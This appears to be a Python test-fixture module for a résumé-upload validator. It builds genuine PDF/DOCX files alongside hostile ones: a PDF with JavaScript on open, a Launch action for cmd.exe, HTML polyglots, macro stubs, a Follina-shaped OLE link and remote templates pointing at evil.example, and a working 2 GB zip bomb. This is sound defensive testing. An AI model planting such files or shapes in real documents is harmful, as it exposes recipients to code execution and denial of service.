"""Real and disguised résumé files for upload tests, built in memory."""

import functools
import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def pdf_bytes(pages=1, password=None):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if password is not None:
        writer.encrypt(
            user_password=password, owner_password=password + "-owner", algorithm="RC4-128"
        )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Ada Lovelace</w:t></w:r></w:p></w:body></w:document>"
)


def _types_xml(defaults, overrides):
    items = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults)
    items += "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f"{items}</Types>"
    )


def _rels_xml(relationships):
    """relationships: (type, target) or (type, target, "External")."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode[0]}"' if mode else "")
        + "/>"
        for i, (kind, target, *mode) in enumerate(relationships, 1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{items}</Relationships>"
    )


def docx_parts(
    *,
    main_type=MAIN_TYPE,
    defaults=(),
    overrides=(),
    parts=None,
    document_rels=(),
    settings_rels=(),
):
    """{name: bytes} of a small .docx as Word writes it; the arguments add to it."""
    overrides = [("word/document.xml", main_type), *overrides]
    result = {
        "_rels/.rels": _rels_xml([(REL + "officeDocument", "word/document.xml")]),
        "word/document.xml": DOCUMENT,
    }
    if document_rels:
        result["word/_rels/document.xml.rels"] = _rels_xml(document_rels)
    if settings_rels:
        result["word/settings.xml"] = (
            '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
        )
        overrides.append(("word/settings.xml", MAIN_TYPE.replace("document.main", "settings")))
        result["word/_rels/settings.xml.rels"] = _rels_xml(settings_rels)
    defaults = [
        ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
        ("xml", "application/xml"),
        *defaults,
    ]
    result = {"[Content_Types].xml": _types_xml(defaults, overrides), **result}
    result.update(parts or {})
    return result


def zip_bytes(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_bytes(extra_parts=(), **kwargs):
    """A .docx Word would open: content types, package relationships, a document part."""
    parts = docx_parts(**kwargs)
    parts.update((name, b"x") for name in extra_parts)
    return zip_bytes(parts)


def docx_with_pictures_bytes():
    """Shaped like a real résumé from Word: properties, a photo, a link to a profile,
    and the (local) template it was made from."""
    return docx_bytes(
        defaults=[("png", "image/png"), ("jpeg", "image/jpeg")],
        overrides=[
            ("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml"),
            (
                "docProps/app.xml",
                "application/vnd.openxmlformats-officedocument.extended-properties+xml",
            ),
        ],
        parts={
            "docProps/core.xml": "<cp:coreProperties xmlns:cp='http://schemas.openxmlformats."
            "org/package/2006/metadata/core-properties'/>",
            "docProps/app.xml": "<Properties xmlns='http://schemas.openxmlformats.org/"
            "officeDocument/2006/extended-properties'/>",
            "word/media/image1.png": png_bytes(),
            "word/media/image2.jpeg": jpeg_bytes(),
        },
        document_rels=[
            (REL + "image", "media/image1.png"),
            (REL + "image", "media/image2.jpeg"),
            (REL + "hyperlink", "https://www.linkedin.com/in/ada", "External"),
        ],
        settings_rels=[
            (
                REL + "attachedTemplate",
                "file:///C:\\Users\\ada\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx",
                "External",
            )
        ],
    )


def _raw_zip(members):
    """A zip written by hand, for what zipfile will not write: members are
    (name, raw deflate data, CRC-32, declared uncompressed size)."""
    out, central = io.BytesIO(), []
    for name, data, crc, size in members:
        offset, encoded = out.tell(), name.encode()
        header = (crc, len(data), size, len(encoded))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, *header, 0))
        out.write(encoded + data)
        central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, *header, 0, 0,
                        0, 0, 0, offset) + encoded
        )  # fmt: skip
    directory, start = b"".join(central), out.tell()
    count = len(members)
    out.write(directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count,
                                      len(directory), start, 0))  # fmt: skip
    return out.getvalue()


def _deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


@functools.cache
def zip_bomb_bytes(lying=False):
    """A .docx whose picture unpacks to 2 GB of zeros (about 2 MB zipped).

    Deflate streams restart after a full flush, so 1 MB of zeros compressed that way
    is the same bytes every time: the 2 GB stream is those bytes repeated. `lying`
    declares the picture as 1 KB: only a real (bounded) decompression finds out.
    """
    megabyte, count = bytes(1024 * 1024), 2000
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(megabyte) + packer.flush(zlib.Z_FULL_FLUSH)
    assert packer.compress(megabyte) + packer.flush(zlib.Z_FULL_FLUSH) == block
    stream = block * count + packer.flush()
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(megabyte, crc)
    size = 1024 if lying else len(megabyte) * count
    members = [
        (name, _deflated(data.encode()), zlib.crc32(data.encode()), len(data.encode()))
        for name, data in docx_parts(defaults=[("png", "image/png")]).items()
    ]
    return _raw_zip([*members, ("word/media/image1.png", stream, crc, size)])


def png_bytes():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, format="PNG")
    return out.getvalue()


def jpeg_bytes():
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 64), "blue").save(out, format="JPEG")
    return out.getvalue()


def upload(data, name="cv.pdf", content_type="application/pdf"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def good_pdf(name="My CV (final).pdf"):
    return upload(pdf_bytes(), name=name)


def good_docx(name="cv.docx"):
    return upload(docx_bytes(), name=name, content_type=DOCX_TYPE)


# Files that claim to be a résumé and are not: name, what the browser says, bytes.
DISGUISED = {
    "html_named_pdf": ("cv.pdf", "application/pdf", b"<html><script>alert(1)</script></html>"),
    "text_named_pdf": ("cv.pdf", "application/pdf", b"Just some text, honest.\n"),
    "png_named_pdf": ("cv.pdf", "application/pdf", None),  # filled in by png_bytes()
    "oversize": ("cv.pdf", "application/pdf", b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024 - 8)),
    "empty": ("cv.pdf", "application/pdf", b""),
    "docx_not_a_zip": ("cv.docx", DOCX_TYPE, b"PK\x03\x04 but not really a zip file at all"),
    "zip_not_a_docx": ("cv.docx", DOCX_TYPE, None),  # a zip without word/document.xml
    "pdf_header_only": ("cv.pdf", "application/pdf", b"%PDF-1.7\n%%EOF\n"),
    "docm_with_macros": ("cv.docx", DOCX_TYPE, None),
}


def disguised(kind):
    name, content_type, data = DISGUISED[kind]
    if kind == "png_named_pdf":
        data = png_bytes()
    elif kind == "zip_not_a_docx":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("notes.txt", "hello")
        data = out.getvalue()
    elif kind == "docm_with_macros":
        data = docx_bytes(extra_parts=["word/vbaProject.bin"])
    return upload(data, name=name, content_type=content_type)


# PDFs shaped like real ones, which must be accepted.


def libreoffice_like_pdf_bytes():
    """As LibreOffice writes a résumé: an Info dictionary, fonts, compressed text, a link,
    and an /OpenAction that opens page 1 (a destination, not an action: accepted)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    font = DictionaryObject({
        NameObject("/Type"): NameObject("/Font"),
        NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
        NameObject("/Encoding"): NameObject("/WinAnsiEncoding"),
    })  # fmt: skip
    page[NameObject("/Resources")] = DictionaryObject({
        NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)}),
    })  # fmt: skip
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 24 Tf 72 760 Td (Ada Lovelace: analyst) Tj ET")
    page[NameObject("/Contents")] = writer._add_object(content)
    page.compress_content_streams()
    writer.add_annotation(0, Link(rect=(72, 700, 300, 720), url="https://example.com/ada"))
    writer.add_metadata({
        "/Creator": "Writer", "/Producer": "LibreOffice 24.2", "/Title": "Résumé",
        "/Author": "Ada Lovelace",
    })  # fmt: skip
    writer.open_destination = writer.pages[0]
    return _written(writer)


def _written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# Hostile PDFs: each holds one thing a résumé must not.


def _pdf_with(change):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    return _written(writer)


def _action(kind, **entries):
    return DictionaryObject({
        NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind),
        **{NameObject(f"/{key}"): value for key, value in entries.items()},
    })  # fmt: skip


def _open_action(action):
    return lambda writer: writer.root_object.__setitem__(NameObject("/OpenAction"), action)


def _page_entry(key, value):
    return lambda writer: writer.pages[0].__setitem__(NameObject(key), value)


def _annotation(subtype, **entries):
    def change(writer):
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
            **{NameObject(f"/{key}"): value for key, value in entries.items()},
        })  # fmt: skip
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


HTML_PAGE = b"<html><body><script>alert(document.domain)</script></body></html>\n"


def _document_javascript(writer):
    """A script in the document's name tree: readers run it when the file opens."""
    scripts = ArrayObject(
        [TextStringObject("hello"), writer._add_object(_action("/JavaScript", JS=JS))]
    )
    tree = DictionaryObject({NameObject("/Names"): scripts})
    names = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    writer.root_object[NameObject("/Names")] = names


def _html_in_a_stream(writer):
    """A web page as the page's (uncompressed) content: a browser sniffing the file
    finds it, a PDF reader sees a comment."""
    content = DecodedStreamObject()
    content.set_data(b"% " + HTML_PAGE)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(content)


def _xfa(writer):
    form = DictionaryObject({
        NameObject("/Fields"): ArrayObject(),
        NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
    })  # fmt: skip
    writer.root_object[NameObject("/AcroForm")] = form


def _hidden_name(data):
    """The names spelt with #-escapes, as malware does (/J#61vaScript): only a parser
    that reads names as a PDF reader does sees them. Objects after them move by a few
    bytes, which readers (and pypdf) put up with."""
    return data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def _zip_of_a_script():
    return zip_bytes({"evil.js": "WScript.Echo(1)"})


JS = TextStringObject("app.alert('hello')")


def hostile_files():
    """{kind: (file name, bytes, the ValidationError code expected)}."""
    pdf = pdf_bytes()
    js_open = _pdf_with(_open_action(_action("/JavaScript", JS=JS)))
    js_names = _pdf_with(_document_javascript)
    return {
        "pdf_javascript": (
            "cv.pdf",
            js_names,
            "active_content",
        ),
        "pdf_open_action_js": ("cv.pdf", js_open, "active_content"),
        "pdf_javascript_hidden_names": ("cv.pdf", _hidden_name(js_names), "active_content"),
        "pdf_open_action_uri": (
            "cv.pdf",
            _pdf_with(_open_action(_action("/URI", URI=TextStringObject("https://evil.example")))),
            "active_content",
        ),
        "pdf_page_additional_action": (
            "cv.pdf",
            _pdf_with(_page_entry("/AA", DictionaryObject({NameObject("/O"): _action("/URI")}))),
            "active_content",
        ),
        "pdf_launch": (
            "cv.pdf",
            _pdf_with(_annotation("/Link", A=_action("/Launch", F=TextStringObject("cmd.exe")))),
            "active_content",
        ),
        "pdf_embedded_file": (
            "cv.pdf",
            _pdf_with(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00")),
            "active_content",
        ),
        "pdf_file_attachment_annotation": (
            "cv.pdf",
            _pdf_with(_annotation("/FileAttachment", FS=TextStringObject("x.exe"))),
            "active_content",
        ),
        "pdf_rich_media": ("cv.pdf", _pdf_with(_annotation("/RichMedia")), "active_content"),
        "pdf_xfa": ("cv.pdf", _pdf_with(_xfa), "active_content"),
        "pdf_html_before": ("cv.pdf", HTML_PAGE + pdf, "leading_data"),
        "pdf_html_inside": ("cv.pdf", _pdf_with(_html_in_a_stream), "polyglot"),
        "pdf_html_after": ("cv.pdf", pdf + HTML_PAGE, "polyglot"),
        "pdf_zip_after": ("cv.pdf", pdf + _zip_of_a_script(), "polyglot"),
        "pdf_junk_after": ("cv.pdf", pdf + b"x" * 2000, "trailing_data"),
        "docx_macro_upper_case_name": (
            "cv.docx",
            docx_bytes(
                defaults=[("bin", "application/vnd.ms-office.vbaProject")],
                parts={"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"},
                document_rels=[(MS_REL + "vbaProject", "VBAPROJECT.BIN")],
            ),
            "macros",
        ),
        "docx_macro_other_name": (
            "cv.docx",
            docx_bytes(
                overrides=[("word/foo.bin", "application/vnd.ms-office.vbaProject")],
                parts={"word/foo.bin": b"\xd0\xcf\x11\xe0"},
            ),
            "macros",
        ),
        "docx_macro_enabled_main": (
            "cv.docx",
            docx_bytes(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
            "macros",
        ),
        "docx_macro_relationship_only": (
            "cv.docx",
            docx_bytes(document_rels=[(MS_REL + "vbaProject", "media/image9.png")]),
            "macros",
        ),
        "docx_activex": (
            "cv.docx",
            docx_bytes(
                overrides=[("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")],
                parts={"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:x'/>"},
            ),
            "macros",
        ),
        "docx_ole_object": (
            "cv.docx",
            docx_bytes(
                defaults=[("bin", "application/vnd.openxmlformats-officedocument.oleObject")],
                parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
                document_rels=[(REL + "oleObject", "embeddings/oleObject1.bin")],
            ),
            "embedded",
        ),
        "docx_external_ole_object": (  # the "Follina" shape
            "cv.docx",
            docx_bytes(
                document_rels=[(REL + "oleObject", "mhtml:https://evil.example/x!x", "External")]
            ),
            "embedded",
        ),
        "docx_remote_template": (
            "cv.docx",
            docx_bytes(
                settings_rels=[
                    (REL + "attachedTemplate", "https://evil.example/t.dotm", "External")
                ]
            ),
            "external_content",
        ),
        "docx_network_template": (
            "cv.docx",
            docx_bytes(
                settings_rels=[
                    (REL + "attachedTemplate", "file://evil.example/share/t.dotm", "External")
                ]
            ),
            "external_content",
        ),
        "docx_remote_picture": (
            "cv.docx",
            docx_bytes(document_rels=[(REL + "image", "https://evil.example/p.png", "External")]),
            "external_content",
        ),
        "docx_doctype": (
            "cv.docx",
            zip_bytes(
                {
                    **docx_parts(),
                    "[Content_Types].xml": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">'
                    ']><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"'
                    "/>",
                }
            ),
            "damaged",
        ),
        "docx_zip_bomb": ("cv.docx", zip_bomb_bytes(), "unzipped_too_large"),
        "docx_zip_bomb_lying_sizes": ("cv.docx", zip_bomb_bytes(lying=True), "damaged"),
    }


def hostile(kind):
    name, data, _ = hostile_files()[kind]
    content_type = DOCX_TYPE if name.endswith(".docx") else "application/pdf"
    return upload(data, name=name, content_type=content_type)
